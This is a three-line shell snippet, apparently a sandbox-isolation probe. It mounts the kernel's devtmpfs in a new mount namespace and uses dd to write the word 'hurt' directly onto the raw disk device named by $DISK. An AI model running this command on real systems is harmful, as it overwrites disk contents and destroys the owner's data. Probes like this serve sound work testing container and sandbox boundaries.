# All of the host's nodes at once: the kernel's own file system of them.
attack='mount -t devtmpfs devices nodes && echo hurt | dd of="nodes/${DISK#/dev/}" conv=notrunc,fsync status=none'
mkdir -p nodes && { unshare -m sh -c "$attack" || unshare -rm sh -c "$attack"; }
